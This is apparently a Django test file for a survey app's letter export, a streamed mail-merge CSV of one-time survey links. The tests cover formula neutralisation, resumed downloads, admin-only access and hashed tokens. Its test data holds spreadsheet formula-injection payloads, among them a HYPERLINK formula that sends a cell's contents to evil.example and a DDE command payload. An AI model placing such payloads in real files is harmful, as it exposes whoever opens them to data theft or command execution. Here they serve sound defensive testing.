"""Printed letters: a mail-merge file with every link, made once, streamed, up to 50,000 people.

Review M4: the old CSV was built from tokens the page posted back, and failed from 1,000
people. Review M3: cells that a spreadsheet would evaluate are neutralised.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from django.urls import reverse
from django.utils import timezone

from trustmirror.audit.models import AuditEvent
from trustmirror.delivery import letters
from trustmirror.orgs.importing import MAX_ROWS, ensure_unit
from trustmirror.orgs.models import Person
from trustmirror.surveys.answering import invitation_for_token
from trustmirror.surveys.models import Invitation, Scan
from trustmirror.surveys.services import scan_create
from trustmirror.surveys.tokens import token_hash

LINK = re.compile(r"^http://testserver/s/([A-Za-z0-9_-]{22})$")
HEADER = ["name", "email", "language", "unit", "link"]
REVIEW_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x!A0",
    "@SUM(1+1)",
]


def _letter_scan(organisation, **kwargs):
    return scan_create(
        organisation=organisation,
        name="On paper",
        opens_on=timezone.localdate() - dt.timedelta(days=1),
        closes_on=timezone.localdate() + dt.timedelta(days=20),
        delivery=Scan.LETTERS,
        **kwargs,
    )


def _download(client, scan, **data):
    return client.post(
        reverse("scans:letters", kwargs={"org": scan.organisation.slug, "scan_id": scan.pk}),
        {"letters-confirm": "on", **data},
    )


def _rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_the_choice_is_made_at_creation_with_its_weaker_promise(client, acme):
    client.force_login(acme.carla)
    html = client.get(reverse("scans:create", kwargs={"org": "acme"})).content.decode()
    assert re.search(r'<input type="radio" name="delivery" value="email"[^>]* checked>', html)
    assert "whoever holds the file or a letter can open that person's survey" in html
    response = client.post(
        reverse("scans:create", kwargs={"org": "acme"}),
        {
            "name": "Paper",
            "opens_on": "2027-01-11",
            "closes_on": "2027-01-31",
            "delivery": "letters",
        },
        follow=True,
    )
    scan = Scan.objects.get(name="Paper")
    assert scan.delivery == Scan.LETTERS and not scan.messages.exists()
    html = response.content.decode()
    assert "Download the letter file below." in html
    assert 'id="letters-promise"' in html and 'id="letters"' in html


def test_the_file_is_made_once_with_working_links_and_every_cell_neutralised(client, acme):
    for n, name in enumerate(REVIEW_NAMES):
        Person.objects.create(
            organisation=acme.org,
            name=name,
            email=f"evil{n}@acme.test",
            language="en",
            unit=ensure_unit(acme.org, "=1+1 formula/Team", {})[0],
        )
    scan = _letter_scan(acme.org)
    client.force_login(acme.carla)
    assert Invitation.objects.filter(scan=scan, token_hash__isnull=True).count() == 18

    # Not confirmed: the page again, and no link made.
    response = client.post(reverse("scans:letters", kwargs={"org": "acme", "scan_id": scan.pk}), {})
    assert response.status_code == 200 and "This field is required." in response.content.decode()
    assert not Invitation.objects.filter(scan=scan, token_hash__isnull=False).exists()

    response = _download(client, scan)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="trustmirror-letters-scan-{scan.pk}.csv"'
    )
    assert "no-store" in {d.strip() for d in response["Cache-Control"].split(",")}
    rows = _rows(response)
    assert rows[0] == HEADER and len(rows) == 19
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@")), row
        assert not row[3].startswith(("=", "+", "-", "@")), row
    names = {row[0] for row in rows[1:]}
    assert {"'" + name for name in REVIEW_NAMES} <= names
    assert "'=1+1 formula/Team" in {row[3] for row in rows[1:]}
    tokens = [LINK.match(row[4]).group(1) for row in rows[1:]]
    stored = set(Invitation.objects.filter(scan=scan).values_list("token_hash", flat=True))
    assert stored == {token_hash(t) for t in tokens}
    ann = next(row for row in rows if row[0] == "Ann")
    assert ann[1:4] == ["ann@acme.test", "en", "Operations/Logistics/Team North"]
    assert invitation_for_token(LINK.match(ann[4]).group(1)).person.name == "Ann"
    # Sorted by unit, then name.
    assert [row[3] for row in rows[1:]] == sorted(row[3] for row in rows[1:])
    assert AuditEvent.objects.get(action=AuditEvent.EXPORT_LETTERS).target == (
        f"scan {scan.pk}: letters for 18 people"
    )

    # Never again: the page says why, and no new link is made.
    again = _download(client, scan)
    assert again.status_code == 200 and not again.streaming
    assert "The letter file was already downloaded." in again.content.decode()
    assert set(Invitation.objects.filter(scan=scan).values_list("token_hash", flat=True)) == stored
    assert AuditEvent.objects.filter(action=AuditEvent.EXPORT_LETTERS).count() == 1
    page = client.get(reverse("scans:manage", kwargs={"org": "acme", "scan_id": scan.pk}))
    assert 'id="letters-done"' in page.content.decode()


def test_a_download_that_broke_off_gives_the_rest_and_only_the_rest(client, acme, monkeypatch):
    monkeypatch.setattr(letters, "CHUNK", 4)
    scan = _letter_scan(acme.org)
    client.force_login(acme.carla)
    stream = iter(_download(client, scan).streaming_content)
    first = [next(stream) for _ in range(1 + 5)]  # header and five people, then the line drops
    del stream
    assert len(first) == 6
    issued = Invitation.objects.filter(scan=scan, token_hash__isnull=False).count()
    assert issued == 8  # two chunks were made; three of their links never reached the file
    page = client.get(reverse("scans:manage", kwargs={"org": "acme", "scan_id": scan.pk}))
    assert "The last download stopped early: 6 people have no link yet." in page.content.decode()
    rows = _rows(_download(client, scan))
    assert len(rows) == 1 + 6
    assert not Invitation.objects.filter(scan=scan, token_hash__isnull=True).exists()


def test_an_email_scan_has_no_letter_file(client, acme, open_scan):
    client.force_login(acme.carla)
    response = _download(client, open_scan)
    assert not response.streaming
    assert "This scan sends its links by e-mail: it has no letter file." in (
        response.content.decode()
    )
    assert not Invitation.objects.filter(scan=open_scan, token_hash__isnull=False).exists()


@pytest.mark.parametrize("user", ["alex", "dana", "eli", "olga"])
def test_only_admins_download_letters(client, acme, user):
    scan = _letter_scan(acme.org)
    client.force_login(getattr(acme, user))
    assert _download(client, scan).status_code == 404
    assert not Invitation.objects.filter(scan=scan, token_hash__isnull=False).exists()


def test_the_file_works_up_to_the_import_limit(client, acme):
    """50,000 people (the import limit), streamed: no posted tokens, no page of links."""
    unit = acme.north
    Person.objects.bulk_create(
        [
            Person(
                organisation=acme.org,
                name=f"Person {n:05d}",
                email=f"p{n}@big.test",
                language="nl" if n % 3 else "en",
                unit=unit,
            )
            for n in range(MAX_ROWS - acme.org.people.count())
        ],
        batch_size=5000,
    )
    scan = _letter_scan(acme.org)
    client.force_login(acme.carla)
    response = _download(client, scan)
    lines = 0
    links = set()
    for chunk in response.streaming_content:
        lines += 1
        links.add(chunk.rsplit(b",", 1)[-1].strip())
    assert lines == 1 + MAX_ROWS
    assert len(links) == 1 + MAX_ROWS  # every link different (and the header's "link")
    assert not Invitation.objects.filter(scan=scan, token_hash__isnull=True).exists()


def test_links_are_stored_as_hashes_on_the_chosen_invitations_only(acme):
    from trustmirror.surveys.services import links_issue

    scan = _letter_scan(acme.org)
    links = links_issue(scan=scan, limit=4)
    assert len(links) == 4
    for link in links:
        invitation = invitation_for_token(link.token)
        assert invitation.scan == scan and invitation.person == link.person
    assert Invitation.objects.filter(scan=scan, token_hash__isnull=True).count() == 10
    rest = links_issue(scan=scan)
    assert len(rest) == 10 and not {link.person for link in rest} & {x.person for x in links}
    assert not Invitation.objects.filter(scan=scan, token_hash__isnull=True).exists()
